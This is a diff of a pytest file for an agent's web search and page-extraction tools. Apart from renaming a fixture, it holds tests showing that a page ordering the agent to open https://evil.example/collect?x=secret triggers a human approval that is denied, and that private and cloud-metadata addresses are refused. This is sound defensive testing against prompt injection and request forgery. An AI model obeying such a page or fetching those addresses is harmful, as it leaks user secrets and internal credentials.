@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 from aiohttp import web
-from tool_setup import House, Person, local
+from tool_setup import Person, ToolSetup, local
 
 from hermes.app.policy import open_policy
 from hermes.core.errors import ToolError
@@ -43,9 +43,9 @@ class SiteStandin(StandinBase):
 
 
 @asynccontextmanager
-async def web_house(
+async def web_setup(
     folder: Path, person: Person | None = None
-) -> AsyncGenerator[tuple[House, SiteStandin, SearchStandin], None]:
+) -> AsyncGenerator[tuple[ToolSetup, SiteStandin, SearchStandin], None]:
     site, search = SiteStandin(), SearchStandin()
     async with site.serving(), search.serving(), local(folder) as environment:
         addresses = ProviderAddresses(urls={"searxng": search.url}, keys={})
@@ -54,13 +54,13 @@ async def web_house(
             "web_extract": WebExtractTool(lambda: PageReader(guard_for([site.url]))),
         }
         policy = open_policy(load(home=folder, variables={}), folder, isolated=False)
-        yield House(environment, tools, policy=policy, person=person), site, search
+        yield ToolSetup(environment, tools, policy=policy, person=person), site, search
         assert search.problems == []
 
 
 async def test_a_search_lists_results(tmp_path: Path) -> None:
-    async with web_house(tmp_path) as (house, _, search):
-        text = await house.ok("web_search", query="nginx  502", site="nginx.org", since="7d")
+    async with web_setup(tmp_path) as (setup, _, search):
+        text = await setup.ok("web_search", query="nginx  502", site="nginx.org", since="7d")
         assert text.splitlines() == [
             "Results of searxng:",
             "1. Nginx 502 & you",
@@ -69,8 +69,8 @@ async def test_a_search_lists_results(tmp_path: Path) -> None:
         ]
         assert search.sent[0]["q"] == "nginx 502 site:nginx.org"
         search.answers["searxng"] = web.json_response({"results": []})
-        assert "finds nothing for 'zzz'" in await house.ok("web_search", query="zzz")
-        assert house.person.asked == []
+        assert "finds nothing for 'zzz'" in await setup.ok("web_search", query="zzz")
+        assert setup.person.asked == []
 
 
 @pytest.mark.parametrize(
@@ -89,36 +89,36 @@ async def test_a_search_lists_results(tmp_path: Path) -> None:
 async def test_a_search_that_does_not_fit_is_told(
     tmp_path: Path, arguments: dict[str, object], words: str
 ) -> None:
-    async with web_house(tmp_path) as (house, _, search):
-        assert words in await house.fails("web_search", **arguments)
+    async with web_setup(tmp_path) as (setup, _, search):
+        assert words in await setup.fails("web_search", **arguments)
         assert search.asked == []
 
 
 async def test_a_long_page_is_cut_and_kept_whole(tmp_path: Path) -> None:
-    async with web_house(tmp_path) as (house, site, _):
-        text = await house.ok("web_extract", urls=[f"{site.url}/long"], max_chars=600)
+    async with web_setup(tmp_path) as (setup, site, _):
+        text = await setup.ok("web_extract", urls=[f"{site.url}/long"], max_chars=600)
         assert f"Address: {site.url}/long (text)" in text
         assert "line 3\n" in text
         assert "line 3000" not in text
         assert "characters follow: from=600]" in text
-        [kept] = house.shelf.texts.values()
+        [kept] = setup.artifacts.texts.values()
         assert "line 3999" in kept
         more = {"urls": [f"{site.url}/long"], "max_chars": 600, "from": 600}
-        assert "line 100\n" in await house.ok("web_extract", **more)
-        beyond = await house.ok("web_extract", **{**more, "from": 999_999})
+        assert "line 100\n" in await setup.ok("web_extract", **more)
+        beyond = await setup.ok("web_extract", **{**more, "from": 999_999})
         assert "the text has only" in beyond
 
 
 async def test_several_pages_are_several_calls_for_the_policy(tmp_path: Path) -> None:
-    async with web_house(tmp_path) as (house, site, _):
+    async with web_setup(tmp_path) as (setup, site, _):
         urls = [f"{site.url}/short", "http://10.0.0.1/", f"{site.url}/missing", f"{site.url}/long"]
-        text = await house.ok("web_extract", urls=urls)
+        text = await setup.ok("web_extract", urls=urls)
         assert "a short page" in text
         assert "http://10.0.0.1/: not read: 10.0.0.1 is not a public address" in text
         assert "/missing answers 404" in text
         assert "line 3\n" in text
         asked = [
-            e.call.arguments["urls"] for e in house.journal.events if isinstance(e, ToolRequested)
+            e.call.arguments["urls"] for e in setup.journal.events if isinstance(e, ToolRequested)
         ]
         assert asked[0] == urls
         assert sorted(asked[1:]) == sorted([url] for url in urls)
@@ -138,36 +138,36 @@ async def test_several_pages_are_several_calls_for_the_policy(tmp_path: Path) ->
 async def test_addresses_that_do_not_fit_are_told_before_anybody_is_asked(
     tmp_path: Path, arguments: dict[str, object], words: str
 ) -> None:
-    async with web_house(tmp_path) as (house, _, _):
-        assert words in await house.fails("web_extract", **arguments)
-        assert house.person.asked == []
+    async with web_setup(tmp_path) as (setup, _, _):
+        assert words in await setup.fails("web_extract", **arguments)
+        assert setup.person.asked == []
 
 
 async def test_an_address_that_a_page_orders_to_open_asks_a_person(tmp_path: Path) -> None:
     person = Person(says=False)
-    async with web_house(tmp_path, person) as (house, site, search):
-        await house.ok("web_search", query="nginx 502")
-        assert HOSTILE_PAGE in await house.ok("web_extract", urls=[f"{site.url}/hostile"])
+    async with web_setup(tmp_path, person) as (setup, site, search):
+        await setup.ok("web_search", query="nginx 502")
+        assert HOSTILE_PAGE in await setup.ok("web_extract", urls=[f"{site.url}/hostile"])
         assert person.asked == []
         for urls in (
             ["https://evil.example/collect?x=1"],
             [f"{site.url}/short", "https://evil.example/collect?x=secret"],
         ):
-            result = await house.result("web_extract", urls=urls)
+            result = await setup.result("web_extract", urls=urls)
             assert (result.status, "person said no" in result.content) == ("denied", True)
         assert person.asked[0].request is not None
         assert person.asked[0].request.url == "https://evil.example/collect?x=1"
-        result = await house.result("web_search", query="q", site="evil.example")
+        result = await setup.result("web_search", query="q", site="evil.example")
         assert result.status == "denied"
-        assert "a short page" in await house.ok("web_extract", urls=[f"{site.url}/short"])
+        assert "a short page" in await setup.ok("web_extract", urls=[f"{site.url}/short"])
         assert search.asked == ["searxng"]
 
 
 async def test_the_metadata_service_asks_and_is_not_reached(tmp_path: Path) -> None:
-    async with web_house(tmp_path) as (house, _, _):
+    async with web_setup(tmp_path) as (setup, _, _):
         url = "http://169.254.169.254/latest/meta-data/"
-        assert "is not a public address" in await house.fails("web_extract", urls=[url])
-        assert len(house.person.asked) == 1
+        assert "is not a public address" in await setup.fails("web_extract", urls=[url])
+        assert len(setup.person.asked) == 1
 
 
 def test_without_an_application_the_tools_say_what_they_need() -> None:
